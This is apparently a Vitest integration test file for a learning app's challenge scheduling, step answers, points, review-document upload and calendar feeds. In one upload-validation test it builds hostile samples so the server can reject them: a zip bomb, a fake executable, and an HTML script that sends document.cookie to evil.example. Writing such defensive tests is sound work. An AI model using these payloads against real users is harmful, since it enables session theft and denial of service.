import { and, eq } from 'drizzle-orm';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { challengeStepComponents, challengeSteps, groupMemberships, groups, organizations, pointsEvents, storedFiles, userChallenges, users } from '../../db/schema/index';
import { learnerWithClearGoal, startFixtureServer, type FixtureCurriculum } from '../../testing/curriculum';
import { contentTypes, docxEntries, minimalDocx } from '../../testing/docx';
import { failure, registerAndLogin, uniqueEmail } from '../../testing/helpers';
import type { TestClient, TestServer } from '../../testing/test-server';
import { fourGibibyteBomb, zipArchive } from '../../testing/zip';

let server: TestServer;
let fixture: FixtureCurriculum;
beforeAll(async () => {
  ({ server, fixture } = await startFixtureServer());
});
afterAll(async () => {
  await server?.close();
});

// November 2026: Mon 16 is day 1 of "Be clear": fx-ch-steps (a drill of five steps, 30 points) on day 1,
// fx-ch-meeting (no steps, 50 points) on day 3.
const at = (isoDate: string, time = '09:00') => new Date(`${isoDate}T${time}:00Z`);
beforeEach(() => server.clock.set(at('2026-11-16')));

const learnerWithGoal = () => learnerWithClearGoal(server, fixture);

const goalId = () => fixture.program.clear;
const steps = () => fixture.ids('challenges', 'fx-ch-steps');
const meeting = () => fixture.ids('challenges', 'fx-ch-meeting');
const slot = { date: '2026-11-16', start_time: '2026-11-16T10:00:00.000Z', end_time: '2026-11-16T10:30:00.000Z' };

const schedule = async (client: TestClient, challengeId: number, times = slot) =>
  (await client.POST('/challenge/schedule/{challenge_id}', { params: { path: { challenge_id: challengeId } }, body: { ...times, goal_id: goalId() } })).data!;
const answerStep = async (client: TestClient, body: { challenge_step_id: number; mcq_response?: number; fill_in_the_blanks_response?: string; assesment_response?: number }) =>
  (await client.POST('/user-data/user-challenge-step', { body: { ...body, goal_id: goalId() } })).data!;

/** The fixture drill's steps in order, with their options' ids (and key) from the database. */
async function stepKey() {
  const db = server.database.db;
  const rows = await db.select().from(challengeSteps).where(eq(challengeSteps.challenge_id, steps())).orderBy(challengeSteps.position);
  return Promise.all(
    rows.map(async (row) => ({
      ...row,
      options: await db.select().from(challengeStepComponents).where(eq(challengeStepComponents.challenge_step_id, row.id)).orderBy(challengeStepComponents.position),
    })),
  );
}

describe('a challenge’s data', () => {
  it('comes with its steps and options without the key, for a goal the learner follows only', async () => {
    const { client } = await learnerWithGoal();
    const detail = (await client.GET('/challenge/goal_id/{goal_id}/id/{challenge_id}', { params: { path: { goal_id: goalId(), challenge_id: steps() } } })).data!;
    expect(detail).toMatchObject({ id: steps(), name: 'Rewrite an email', type: 'drill', calender_required: false, reward_points: 30 });
    expect(detail.challenge_steps.map((step) => step.step_type)).toEqual(['reading', 'mcq', 'textbox', 'scale_or_rating', 'visual_flash_card']);
    expect(JSON.stringify(detail)).not.toContain('is_correct');
    expect(detail.challenge_steps[3]!.challenge_steps_components.map((option) => option.option_text)).toEqual(['Unclear', 'Okay', 'Clear']);

    const stranger = server.newClient();
    await registerAndLogin(stranger);
    expect(await failure(stranger.GET('/challenge/goal_id/{goal_id}/id/{challenge_id}', { params: { path: { goal_id: goalId(), challenge_id: steps() } } }))).toMatchObject({ status: 403 });
    expect(await failure(client.GET('/challenge/goal_id/{goal_id}/id/{challenge_id}', { params: { path: { goal_id: goalId(), challenge_id: meeting() } } }))).toMatchObject({
      status: 403,
      message: 'This challenge opens on day 3 of your goal.',
    });
  });
});

describe('scheduling', () => {
  it('creates the take, lists it as scheduled and active, and moves it when scheduled again', async () => {
    const { client } = await learnerWithGoal();
    expect((await client.GET('/user-data/active-challenge/{challenge_id}', { params: { path: { challenge_id: steps() } } })).data).toBeNull();
    const take = await schedule(client, steps());
    expect(take).toMatchObject({ challenge_id: steps(), goal_id: goalId(), date: '2026-11-16', start_time: slot.start_time, end_time: slot.end_time, is_completed: false, completed_date: null });
    const moved = await schedule(client, steps(), { ...slot, start_time: '2026-11-16T14:00:00.000Z', end_time: '2026-11-16T16:00:00.000Z' });
    expect(moved.id).toBe(take.id);
    expect((await client.GET('/user-data/get-scheduled-challenges')).data).toEqual([moved]);
    expect((await client.GET('/user-data/active-challenge/{challenge_id}', { params: { path: { challenge_id: steps() } } })).data).toEqual(moved);
    expect((await client.GET('/user-data/challenge/{user_challenge_id}', { params: { path: { user_challenge_id: take.id } } })).data).toEqual(moved);
    const list = (await client.GET('/challenge/day-list/{dayAdjust}', { params: { path: { dayAdjust: 0 } } })).data!;
    expect(list.challengeList[0]).toMatchObject({ started: true, schedule: { start_time: moved.start_time, end_time: moved.end_time } });
  });

  it('refuses an end before the start, a day outside the goal, and another learner’s record', async () => {
    const { client, userId } = await learnerWithGoal();
    expect(await failure(schedule(client, steps(), { ...slot, end_time: '2026-11-16T09:30:00.000Z' }))).toMatchObject({ status: 400, message: 'The end time must be after the start time.' });
    expect(await failure(schedule(client, steps(), { date: '2026-11-21', start_time: '2026-11-21T10:00:00.000Z', end_time: '2026-11-21T11:00:00.000Z' }))).toMatchObject({
      status: 400,
      message: "2026-11-21 is not a learning day of this goal's schedule.",
    });
    expect(await server.database.db.select().from(userChallenges).where(eq(userChallenges.user_id, userId))).toEqual([]);
    const take = await schedule(client, steps());
    const stranger = server.newClient();
    await registerAndLogin(stranger);
    expect(await failure(stranger.GET('/user-data/challenge/{user_challenge_id}', { params: { path: { user_challenge_id: take.id } } }))).toMatchObject({ status: 404 });
  });
});

describe('the step player', () => {
  it('records each step: mcq checked with the key revealed, texts and scales saved then changed, readings and cards viewed', async () => {
    const { client } = await learnerWithGoal();
    const [reading, mcq, textbox, scale, card] = await stepKey();
    expect(await failure(answerStep(client, { challenge_step_id: reading!.id }))).toMatchObject({ status: 409, message: 'Schedule this challenge first.' });
    await schedule(client, steps());

    expect((await answerStep(client, { challenge_step_id: reading!.id })).data).toMatchObject({ mcq_response: null, fill_in_the_blanks_response: null, assesment_response: null });
    const wrong = mcq!.options.find((option) => !option.is_correct)!;
    const right = mcq!.options.find((option) => option.is_correct)!;
    expect(await answerStep(client, { challenge_step_id: mcq!.id, mcq_response: wrong.id })).toMatchObject({
      isCorrect: false,
      correctAnswer: { mcq_options: [{ id: right.id, option_text: right.option_text }] },
      data: { mcq_response: wrong.id },
    });
    const text = await answerStep(client, { challenge_step_id: textbox!.id, fill_in_the_blanks_response: 'Decision needed by Friday' });
    expect(text).toMatchObject({ isCorrect: null, correctAnswer: null });
    expect(await failure(answerStep(client, { challenge_step_id: textbox!.id, fill_in_the_blanks_response: 'again' }))).toMatchObject({ status: 409, code: 'StepAlreadyAnswered' });
    const changed = (await client.PATCH('/user-data/user-challenge-step', { body: { user_challenge_step_id: text.data.id, goal_id: goalId(), fill_in_the_blanks_response: 'Decision by Friday, please' } })).data!;
    expect(changed.fill_in_the_blanks_response).toBe('Decision by Friday, please');
    const rated = await answerStep(client, { challenge_step_id: scale!.id, assesment_response: 2 });
    expect(await failure(answerStep(client, { challenge_step_id: scale!.id, assesment_response: 5 }))).toMatchObject({ status: 400 });
    await answerStep(client, { challenge_step_id: card!.id });

    const take = (await client.GET('/user-challenge/goal-id/{goal_id}/challenge-id/{id}', { params: { path: { goal_id: goalId(), id: steps() } } })).data!;
    expect(take.user_challenge_steps).toHaveLength(5);
    expect(take.challenge_steps[3]!.user_challenge_steps).toEqual([expect.objectContaining({ id: rated.data.id, assesment_response: 2 })]);

    const review = (await client.GET('/challenge/review/{goal_id}/{challenge_id}', { params: { path: { goal_id: goalId(), challenge_id: steps() } } })).data!;
    expect(review).toEqual([
      { text: 'Step 1', question: 'Which opening is best?', user_response: wrong.option_text },
      { text: 'Step 2', question: 'Write your new opening line.', user_response: 'Decision by Friday, please' },
      { text: 'Step 3', question: 'How clear is it now?', user_response: 'Clear' },
    ]);
  });

  it('refuses a PATCH before the POST, a changed mcq, and the wrong field for a step', async () => {
    const { client } = await learnerWithGoal();
    const [, mcq, textbox] = await stepKey();
    await schedule(client, steps());
    expect(await failure(client.PATCH('/user-data/user-challenge-step', { body: { user_challenge_step_id: 999_999, goal_id: goalId(), fill_in_the_blanks_response: 'x' } }))).toMatchObject({ status: 404 });
    const answered = await answerStep(client, { challenge_step_id: mcq!.id, mcq_response: mcq!.options[0]!.id });
    expect(await failure(client.PATCH('/user-data/user-challenge-step', { body: { user_challenge_step_id: answered.data.id, goal_id: goalId(), fill_in_the_blanks_response: 'x' } }))).toMatchObject({
      status: 400,
      message: 'An answer to a multiple-choice step cannot be changed.',
    });
    expect(await failure(answerStep(client, { challenge_step_id: textbox!.id, assesment_response: 1 }))).toMatchObject({ status: 400, message: `Step ${textbox!.id} is a textbox step: it takes a text (fill_in_the_blanks_response).` });
  });
});

describe('completing a challenge', () => {
  it('saves the rating and feedback, earns the reward once, and counts on the dashboard', async () => {
    const { client, userId } = await learnerWithGoal();
    const take = await schedule(client, steps());
    const respond = (body: { is_completed: boolean; user_response?: number; user_feedback?: string }) =>
      client.POST('/challenge/respond/{challenge_id}', { params: { path: { challenge_id: steps() } }, body: { id: take.id, goal_id: goalId(), ...body } });
    const done = (await respond({ is_completed: true, user_response: 4, user_feedback: 'Shorter emails, faster answers.' })).data!;
    expect(done).toMatchObject({ id: take.id, is_completed: true, user_response: 4, user_feedback: 'Shorter emails, faster answers.', completed_date: expect.stringMatching(/^2026-11-16T09:00/) });
    expect((await client.GET('/user-data/total-points')).data!.total_points).toBe(30);
    // The completion screen after the step player rates it afterwards: saved, and no more points.
    expect((await respond({ is_completed: true, user_response: 5 })).data).toEqual({ ...done, user_response: 5 });

    // Scheduled and completed again on its next day (day 4): no second reward.
    server.clock.set(at('2026-11-19'));
    const again = await schedule(client, steps(), { date: '2026-11-19', start_time: '2026-11-19T10:00:00.000Z', end_time: '2026-11-19T10:30:00.000Z' });
    expect(again.id).not.toBe(take.id);
    await client.POST('/challenge/respond/{challenge_id}', { params: { path: { challenge_id: steps() } }, body: { id: again.id, goal_id: goalId(), is_completed: true, user_response: 5 } });
    expect((await client.GET('/user-data/total-points')).data!.total_points).toBe(30);
    const events = await server.database.db.select().from(pointsEvents).where(and(eq(pointsEvents.user_id, userId), eq(pointsEvents.source, 'challenge')));
    expect(events).toHaveLength(1);
    expect((await client.GET('/user-data/stats')).data).toMatchObject({ no_of_days_of_learning: 2 });
  });

  it('refuses to complete a challenge longer than 15 minutes before its time has passed, then earns its points (docs/challenges.md)', async () => {
    const { client } = await learnerWithGoal();
    // fx-ch-meeting takes 30 minutes: scheduled 10:00 on its day, its reflection opens at 10:30.
    server.clock.set(at('2026-11-18', '10:00'));
    const take = await schedule(client, meeting(), { date: '2026-11-18', start_time: '2026-11-18T10:00:00.000Z', end_time: '2026-11-18T11:00:00.000Z' });
    expect(take).toMatchObject({ opens_at: '2026-11-18T10:30:00.000Z', points_earned: 0 });
    const complete = () =>
      client.POST('/challenge/respond/{challenge_id}', { params: { path: { challenge_id: meeting() } }, body: { id: take.id, goal_id: goalId(), is_completed: true, user_response: 4 } });

    server.clock.set(at('2026-11-18', '10:29'));
    const early = await failure(complete());
    expect(early).toMatchObject({ status: 409, code: 'ReflectionNotOpen' });
    expect(early.message).toMatch(/^This challenge is done over the day: you can complete it from \d\d:\d\d on 2026-11-18\.$/);
    const [row] = await server.database.db.select().from(userChallenges).where(eq(userChallenges.id, take.id));
    expect(row!.is_completed).toBe(false);
    expect((await client.GET('/user-data/total-points')).data!.total_points).toBe(0);

    server.clock.set(at('2026-11-18', '10:30'));
    expect((await complete()).data).toMatchObject({ is_completed: true, points_earned: 50 });
    expect((await client.GET('/user-data/challenge/{user_challenge_id}', { params: { path: { user_challenge_id: take.id } } })).data).toMatchObject({ points_earned: 50 });
  });

  it('never makes a challenge of 15 minutes or less wait', async () => {
    const { client } = await learnerWithGoal();
    const take = await schedule(client, steps());
    expect(take.opens_at).toBeNull();
  });

  it('refuses another learner’s take, and a take of another challenge', async () => {
    const { client } = await learnerWithGoal();
    const take = await schedule(client, steps());
    const other = await learnerWithGoal();
    expect(
      await failure(other.client.POST('/challenge/respond/{challenge_id}', { params: { path: { challenge_id: steps() } }, body: { id: take.id, goal_id: goalId(), is_completed: true } })),
    ).toMatchObject({ status: 404 });
    server.clock.set(at('2026-11-18'));
    expect(
      await failure(client.POST('/challenge/respond/{challenge_id}', { params: { path: { challenge_id: meeting() } }, body: { id: take.id, goal_id: goalId(), is_completed: true } })),
    ).toMatchObject({ status: 404 });
    const [row] = await server.database.db.select().from(userChallenges).where(eq(userChallenges.id, take.id));
    expect(row!.is_completed).toBe(false);
  });
});

describe('the review document', () => {
  /** The learner in a group whose admin is someone else, and another group they are not in. */
  async function learnerInGroup() {
    const learner = await learnerWithGoal();
    const db = server.database.db;
    const adminEmail = uniqueEmail('team.admin');
    const strangerAdmin = uniqueEmail('other.admin');
    const [organization] = await db.insert(organizations).values({ name: `Review org ${adminEmail}`, email: uniqueEmail('org') }).returning({ id: organizations.id });
    const [team, other] = await db
      .insert(groups)
      .values([
        { name: 'Reviewers', description: 'Our team.', organization_id: organization!.id, group_admin_email: adminEmail },
        { name: 'Strangers', description: 'Another team.', organization_id: organization!.id, group_admin_email: strangerAdmin },
      ])
      .returning({ id: groups.id });
    const [me] = await db.select({ email: users.email }).from(users).where(eq(users.id, learner.userId));
    await db.insert(groupMemberships).values({ group_id: team!.id, email: me!.email, user_id: learner.userId, status: 'joined', joining_date: server.clock.now() });
    return { ...learner, adminEmail, strangerAdmin, teamId: team!.id, otherGroupId: other!.id };
  }

  const sendForm = ({ client, token }: { client: TestClient; token: string }, fields: { document?: Buffer; user_email: string[]; goal_id?: number }) => {
    const form = new FormData();
    if (fields.document) form.append('document', new Blob([new Uint8Array(fields.document)]), 'review.docx');
    for (const email of fields.user_email) form.append('user_email', email);
    form.append('challenge_name', 'Rewrite an email');
    form.append('goal_id', String(fields.goal_id ?? goalId()));
    const cookie = [...client.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
    return fetch(`${server.baseUrl}/group/challenge-doc`, { method: 'POST', body: form, headers: { cookie, authorization: `Bearer ${token}` } });
  };

  it('goes to the admins of the learner’s groups as a .docx attachment through the outbox', async () => {
    const learner = await learnerInGroup();
    const { client, adminEmail, teamId } = learner;
    expect((await client.GET('/group/get-group-admin-emails-by-user')).data).toEqual([{ group_id: teamId, name: 'Reviewers', group_admin: { email: adminEmail } }]);
    const document = minimalDocx('I opened with the decision needed.');
    const response = await sendForm(learner, { document, user_email: [adminEmail] });
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ message: 'Document successfully sent.' });
    const [email] = await server.app.mailer.messagesTo(adminEmail);
    expect(email).toMatchObject({ subject: 'Challenge review: Rewrite an email', text: expect.stringContaining('sent you their review of the challenge "Rewrite an email"') });
    const attachments = await server.app.mailer.attachmentsOf(email!.id);
    expect(attachments).toEqual([{ filename: 'Rewrite an email review.docx', contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', content: document }]);
    // The development outbox lists it too, without its bytes.
    const outbox = (await client.GET('/dev/outbox', { params: { query: { to: adminEmail } } })).data!;
    expect(outbox.messages[0]!.attachments).toEqual([
      { filename: 'Rewrite an email review.docx', content_type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', size: document.length },
    ]);
  });

  it('is refused when it is not a .docx, too large, or sent to someone who is not an admin of the learner’s groups', async () => {
    const learner = await learnerInGroup();
    const { userId, adminEmail, strangerAdmin } = learner;
    const db = server.database.db;
    const before = await db.select({ id: storedFiles.id }).from(storedFiles).where(eq(storedFiles.user_id, userId));
    const cases: [Response, number, string][] = [
      [await sendForm(learner, { document: Buffer.from('%PDF-1.7 not a word document'), user_email: [adminEmail] }), 400, 'The review document must be a Word document (.docx).'],
      [await sendForm(learner, { user_email: [adminEmail] }), 400, 'document is required.'],
      [await sendForm(learner, { document: Buffer.alloc(20 * 1024 * 1024, 1), user_email: [adminEmail] }), 413, 'File too large'],
      [await sendForm(learner, { document: minimalDocx(), user_email: [adminEmail, strangerAdmin] }), 403, `${strangerAdmin} is not an admin of your groups, so the document cannot be sent there.`],
      [await sendForm(learner, { document: minimalDocx(), user_email: [adminEmail], goal_id: fixture.program.listen }), 403, 'You are not following this goal.'],
    ];
    for (const [response, status, message] of cases) {
      expect(response.status).toBe(status);
      expect(((await response.json()) as { error: { message: string } }).error.message).toBe(message);
    }
    expect(await db.select({ id: storedFiles.id }).from(storedFiles).where(eq(storedFiles.user_id, userId))).toEqual(before);
    expect(await server.app.mailer.messagesTo(adminEmail)).toEqual([]);
  });

  it('is refused, saying why, when it is not a Word document that is safe to pass on; nothing is stored or sent', async () => {
    const learner = await learnerInGroup();
    const { userId, adminEmail } = learner;
    const db = server.database.db;
    const before = await db.select({ id: storedFiles.id }).from(storedFiles).where(eq(storedFiles.user_id, userId));
    const program = Buffer.concat([Buffer.from('MZ\x90\x00'), Buffer.alloc(60), Buffer.from('PE\x00\x00This program cannot be run in DOS mode.')]);
    const page = Buffer.from('<html><body><script>fetch("https://evil.example/" + document.cookie)</script></body></html>');
    const compoundFile = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
    const withPart = (...parts: Parameters<typeof zipArchive>[0]) => zipArchive([...docxEntries(), ...parts]);
    const notDocx = 'The review document must be a Word document (.docx).';
    const cases: [string, Buffer, string][] = [
      ['a 4 GiB zip bomb in 4 MiB', withPart(fourGibibyteBomb('word/media/image1.png')), 'The review document unpacks to more than 50 MB: make it smaller (fewer or smaller pictures) and send it again.'],
      [
        '10 MiB in 10 KiB',
        withPart({ name: 'word/media/image1.png', content: Buffer.alloc(10 * 1024 * 1024), deflate: true }),
        'The review document unpacks to more than 100 times its size, which no Word document does, so it cannot be sent.',
      ],
      ['a program and a page behind a ZIP signature and the two part names', Buffer.concat([Buffer.from('PK\x03\x04[Content_Types].xml word/document.xml'), program, page]), notDocx],
      ['a program and a page with a document tucked behind them', zipArchive(docxEntries(), { prefix: Buffer.concat([program, page]) }), notDocx],
      [
        'a VBA project',
        withPart({ name: 'word/vbaProject.bin', content: compoundFile }),
        'The review document contains macros: save it as a Word Document (.docx), without macros, and send that.',
      ],
      ['an embedded .exe', withPart({ name: 'word/embeddings/setup.exe', content: program }), 'The review document contains a program: remove it and send the document again.'],
      [
        'an OLE object',
        withPart({ name: 'word/embeddings/oleObject1.bin', content: compoundFile }),
        'The review document contains embedded objects or controls (OLE, ActiveX): remove them and send the document again.',
      ],
      ['an encrypted part', withPart({ name: 'word/styles.xml', content: '<w:styles/>', encrypted: true }), 'The review document has encrypted parts: save it again without a password and send that.'],
      [
        '2,001 parts',
        withPart(...Array.from({ length: 1_998 }, (_, index) => ({ name: `word/media/image${index}.png`, content: '' }))),
        'The review document has more than 2,000 parts, which no Word document needs, so it cannot be sent.',
      ],
      ['no [Content_Types].xml', zipArchive(docxEntries('No types', { contentTypes: null })), notDocx],
      ['a workbook’s main type', zipArchive(docxEntries('A sheet', { contentTypes: contentTypes({ '/word/document.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml' }) })), notDocx],
      [
        'part names that differ in the local headers',
        zipArchive(docxEntries().map((entry) => (entry.name === 'word/document.xml' ? { ...entry, localName: 'word/document.exe' } : entry))),
        'The review document is damaged: open it in Word, save it again as a Word Document (.docx) and send that.',
      ],
    ];
    for (const [what, document, message] of cases) {
      const response = await sendForm(learner, { document, user_email: [adminEmail] });
      expect(response.status, what).toBe(400);
      expect(((await response.json()) as { error: { message: string } }).error.message, what).toBe(message);
    }
    expect(await db.select({ id: storedFiles.id }).from(storedFiles).where(eq(storedFiles.user_id, userId))).toEqual(before);
    expect(await server.app.mailer.messagesTo(adminEmail)).toEqual([]);
  });

  it('passes as the learner app’s template of the challenge, the file a learner fills in', async () => {
    const learner = await learnerInGroup();
    const template = readFileSync(join(import.meta.dirname, '..', '..', '..', '..', 'learner', 'public', 'templates', 'comm-drill-bluf-rewrite.docx'));
    const response = await sendForm(learner, { document: template, user_email: [learner.adminEmail] });
    expect(response.status).toBe(200);
    const [email] = await server.app.mailer.messagesTo(learner.adminEmail);
    expect((await server.app.mailer.attachmentsOf(email!.id))[0]!.content).toEqual(template);
  });

  it('has no admins to offer to a learner in no group', async () => {
    const { client } = await learnerWithGoal();
    expect((await client.GET('/group/get-group-admin-emails-by-user')).data).toEqual([]);
  });
});

/** The VEVENTs of an iCalendar text as property maps (lines unfolded, parameters dropped). */
function calendarEvents(text: string): Record<string, string>[] {
  const lines = text.replace(/\r?\n[ \t]/g, '').split(/\r?\n/);
  const events: Record<string, string>[] = [];
  let current: Record<string, string> | null = null;
  for (const line of lines) {
    if (line === 'BEGIN:VEVENT') current = {};
    else if (line === 'END:VEVENT' && current) {
      events.push(current);
      current = null;
    } else if (current) {
      const colon = line.indexOf(':');
      current[line.slice(0, colon).split(';')[0]!] = line.slice(colon + 1);
    }
  }
  return events;
}

describe('the calendar', () => {
  it('offers a scheduled challenge as an .ics event, the learner’s own only', async () => {
    const { client } = await learnerWithGoal();
    const take = await schedule(client, steps());
    const response = await client.navigate(`/challenge/ics/${take.id}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/calendar; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="challenge-${take.id}.ics"`);
    const [event, ...others] = calendarEvents(await response.text());
    expect(others).toEqual([]);
    expect(event).toMatchObject({ UID: `challenge-${take.id}@stride`, SUMMARY: 'Rewrite an email', DTSTART: '20261116T100000Z', DTEND: '20261116T103000Z', STATUS: 'CONFIRMED' });
    expect(event!.DTSTAMP).toMatch(/^20261116T09/);

    const stranger = server.newClient();
    await registerAndLogin(stranger);
    expect((await stranger.navigate(`/challenge/ics/${take.id}`)).status).toBe(404);
  });

  it('gives a private feed address that calendar apps read without signing in, until a new one or revoking', async () => {
    const { client } = await learnerWithGoal();
    expect((await client.GET('/user-data/calendar-feed')).data).toEqual({ url: null, created_at: null });
    const feed = (await client.POST('/user-data/calendar-feed')).data!;
    expect(feed.url).toMatch(/^http:\/\/localhost:4200\/api\/calendar\/feed\/[A-Za-z0-9_-]{43}$/);
    expect((await client.GET('/user-data/calendar-feed')).data).toEqual({ url: null, created_at: feed.created_at });
    const path = new URL(feed.url!).pathname.replace(/^\/api/, '');

    await schedule(client, steps());
    const anonymous = await fetch(`${server.baseUrl}${path}`);
    expect(anonymous.status).toBe(200);
    expect(anonymous.headers.get('referrer-policy')).toBe('no-referrer');
    expect(calendarEvents(await anonymous.text()).map((event) => event.SUMMARY)).toEqual(['Rewrite an email']);

    const renewed = (await client.POST('/user-data/calendar-feed')).data!;
    expect((await fetch(`${server.baseUrl}${path}`)).status).toBe(404);
    await client.POST('/user-data/calendar-feed/revoke');
    expect((await fetch(`${server.baseUrl}${new URL(renewed.url!).pathname.replace(/^\/api/, '')}`)).status).toBe(404);
    expect((await client.GET('/user-data/calendar-feed')).data).toEqual({ url: null, created_at: null });
  });
});
